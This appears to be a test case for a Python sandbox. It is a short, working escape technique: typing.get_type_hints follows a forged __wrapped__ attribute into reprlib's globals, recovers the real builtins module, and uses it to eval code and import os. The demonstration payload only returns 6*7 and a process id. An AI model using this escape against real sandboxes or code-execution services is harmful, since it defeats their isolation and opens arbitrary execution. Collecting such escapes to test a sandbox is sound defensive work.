# technique: typing.get_type_hints follows __wrapped__ to a function and evaluates the annotations in its __globals__: collections.ChainMap.__repr__ is reprlib's recursive_repr wrapper, whose globals are reprlib's (a module pruned from sys.modules, so no lookup by name finds it) and hold the real builtins module
# configs: default, common
# Up to 3.12: 3.13's wrapper has __wrapped__ itself, and the walk goes on to collections'
# globals. With nothing allowed `import collections` is refused.
import collections
import dataclasses
import typing
u = '_' * 2
W = dataclasses.make_dataclass('W', [('x', 'builtins')], namespace={
    u + 'wrapped' + u: collections.ChainMap.__repr__, u + 'module' + u: 'typing'})
b = typing.get_type_hints(W(1))['x']
return [{'json': {'escaped': [repr(b), b.eval('6 * 7'), b.eval(u + 'import' + u + "('os').getpid()", {u + 'builtins' + u: b})]}}]
